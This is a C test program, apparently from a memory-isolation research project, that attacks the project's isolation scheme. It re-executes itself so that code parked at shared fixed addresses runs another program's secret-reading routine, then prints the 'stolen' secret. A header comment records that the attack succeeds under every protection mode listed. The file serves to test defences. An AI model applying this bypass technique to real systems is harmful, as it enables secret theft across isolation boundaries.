/* none: succeeds: secret; keys: succeeds: secret; full: succeeds: secret */
#include "attack.h"

/*
 * As other_code, but whose code it is does not run, and has been moved aside: of programs at the same fixed addresses one is where it was
 * linked, and the others are parked in their windows (docs/memory.md). This one starts itself again, and that runs the first one's code.
 */
#define WINDOW (32ul << 30)
#define TABLE (2ul << 20) /* parked as far behind a border of so much as it was */

extern const char __executable_start[];
static char code[PAGE] __attribute__((aligned(PAGE)));

static uintptr_t parked(const char *place)
{
	return at("first_window") + ((uintptr_t)place - ((uintptr_t)__executable_start & -TABLE));
}

static int run_parked(void)
{
	char secret[SECRET];

	run_secret_code(parked(code), secret);
	say("stolen: %.*s\n", SECRET, secret);
	return 0;
}

int main(int argc, char **argv)
{
	char window[32], secret[SECRET];

	if (argc > 1)
		return run_parked();
	run_secret_code(at("victim_code"), secret);
	put_secret_code(code, secret);
	snprintf(window, sizeof window, "%lx", (uintptr_t)window & -WINDOW);
	setenv("first_window", window, 1);
	if (vfork() == 0) {
		execl(argv[0], argv[0], "again", NULL);
		_exit(127);
	}
	wait(NULL);
	return 0;
}
